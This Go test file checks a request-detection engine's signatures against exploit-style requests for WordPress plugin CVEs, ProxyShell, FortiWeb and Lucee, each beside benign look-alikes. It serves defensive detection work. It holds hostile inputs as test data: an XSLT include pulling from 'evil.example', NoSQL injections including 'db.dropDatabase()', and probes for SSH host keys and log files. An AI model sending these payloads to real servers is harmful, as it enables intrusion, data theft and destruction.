package patterns

import "testing"

// Session 14 signatures: 2024-25 WordPress plugin exploit routes and the
// exploit requests attacks6 left watched, and structural generalisations
// (XSLT elements, a MongoDB shell call after a splice), each beside the
// product's own request or the look-alike that must stay quiet.
func TestSigS14(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		// WordPress plugin routes: in full on a miss, watched refused, nothing served
		{"POST", "/", "rest_route=/reallysimplessl/v1/two_fa/skip_onboarding", "", 404, "cve-wp-plugin-route-miss", true},
		{"POST", "/wp-json/bricks/v1/render_element", "", "", 404, "cve-wp-plugin-route-miss", true},
		{"POST", "/blog/wp-json/sure-triggers/v1/automation/action", "", "", 404, "cve-wp-plugin-route-miss", true},
		{"POST", "/wp-json/post-smtp/v1/connect-app", "", "", 404, "cve-wp-plugin-route-miss", true},
		{"GET", "/wp-json/post-smtp/v1/connect-app", "", "", 404, "cve-wp-plugin-route-other-method", true},
		{"POST", "/wp-admin/admin-ajax.php", "action=give_process_donation", "", 400, "cve-wp-plugin-route-miss", true},
		{"POST", "/wp-json/bricks/v1/render_element", "", "https://www.example.org/?bricks=run", 200, "cve-wp-plugin-route-miss", false},
		{"POST", "/", "rest_route=/reallysimplessl/v1/two_fa/skip_onboarding", "", 200, "cve-wp-plugin-route-miss", false},
		{"POST", "/wp-admin/admin-ajax.php", "action=give_process_donation", "https://www.example.org/donations/", 200, "cve-wp-plugin-route-miss", false},
		{"POST", "/wp-admin/admin-ajax.php", "action=give_donation_form_reset_all_nonce", "", 400, "cve-wp-plugin-route-miss", false},
		{"GET", "/wp-json/bricks/v1/docs", "", "", 404, "cve-wp-plugin-route-miss", false},
		{"GET", "/wp-json/post-smtp/v1/", "", "", 404, "cve-wp-plugin-route-miss", false},
		// FortiWeb CVE-2025-25257, Lucee
		{"GET", "/api/fabric/device/status", "", "", 404, "cve-product-endpoint-miss", true},
		{"GET", "/cgi-bin/ml-draw.py", "", "", 404, "cve-product-endpoint-miss", true},
		{"GET", "/api/fabric/device/status", "", "", 200, "cve-product-endpoint-miss", false},
		{"GET", "/api/fabric/colours", "", "", 404, "cve-product-endpoint-miss", false},
		{"GET", "/api/fabric/device/status/history", "", "", 404, "cve-product-endpoint-miss", false},
		{"GET", "/lucee/admin/imgProcess.cfm", "", "", 404, "cve-product-endpoint-miss", true},
		// Laravel's log
		{"GET", "/storage/logs/laravel.log", "", "", 404, "sensitive-laravel-log", true},
		{"GET", "/app/storage/logs/laravel-2026-12-06.log", "", "", 404, "sensitive-laravel-log", true},
		{"GET", "/storage/logs/laravel.log", "", "", 200, "sensitive-laravel-log", false},
		{"GET", "/storage/logs/", "", "", 404, "sensitive-laravel-log", false},
		{"GET", "/storage/uploads/laravel.png", "", "", 404, "sensitive-laravel-log", false},
		// ProxyShell's '@' query
		{"GET", "/autodiscover/autodiscover.json", "@zdi/Powershell", "", 404, "cve-2021-34473-proxyshell", true},
		{"GET", "/autodiscover/autodiscover.json", "@evil.example/mapi/nspi/", "", 200, "cve-2021-34473-proxyshell", true},
		{"GET", "/autodiscover/autodiscover.json", "Email=jane%40example.org&Protocol=ActiveSync&RedirectCount=1", "", 200, "cve-2021-34473-proxyshell", false},
		{"GET", "/search", "q=powershell+/mapi/nspi", "", 200, "cve-2021-34473-proxyshell", false},
		// XSLT elements with an attribute
		{"GET", "/transform", "xsl=%3Cxsl:include+href=%22http://evil.example/x.xsl%22/%3E", "", 200, "xxe-entity", true},
		{"GET", "/transform", "xsl=%3Cxsl:template+match=%22/%22%3E%3Cxsl:value-of+select=%22system-property('xsl:vendor')%22/%3E", "", 200, "xxe-entity", true},
		{"GET", "/search", "q=%3Cxsl:for-each%3E+loop+example", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=xsl:include+vs+xsl:import", "", 200, "xxe-entity", false},
		{"GET", "/feed", "doc=%3C%3Fxml-stylesheet+type=%22text/xsl%22+href=%22/feed.xsl%22%3F%3E%3Crss/%3E", "", 200, "xxe-entity", false},
		// MongoDB shell call after a splice
		{"GET", "/item", "id=1;+db.getCollectionNames()", "", 200, "nosqli-shell-call", true},
		{"GET", "/item", "name=%27;db.dropDatabase();%27", "", 200, "nosqli-shell-call", true},
		{"GET", "/search", "q=use+shop;+db.users.find()", "", 200, "nosqli-shell-call", false},
		{"GET", "/search", "q=db.users.find()+vs+findOne", "", 200, "nosqli-shell-call", false},
		// certain names added to existing lexicons
		{"GET", "/recentservers.xml", "", "", 404, "sensitive-credentials", true},
		{"GET", "/etc/ssh/ssh_host_ed25519_key", "", "", 404, "sensitive-ssh-key", true},
		{"GET", "/docs/ssh_host_keys.html", "", "", 404, "sensitive-ssh-key", false},
		{"GET", "/logs/catalina.out", "", "", 404, "sensitive-log-path", true},
		{"GET", "/blog/catalina-island-trip", "", "", 404, "sensitive-log-path", false},
		{"GET", "/redis-commander/", "", "", 404, "probe-db-admin", true},
		{"GET", "/mongo-express/", "", "", 404, "probe-db-admin", true},
		{"GET", "/blog/redis-commander-vs-redisinsight", "", "", 404, "probe-db-admin", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}
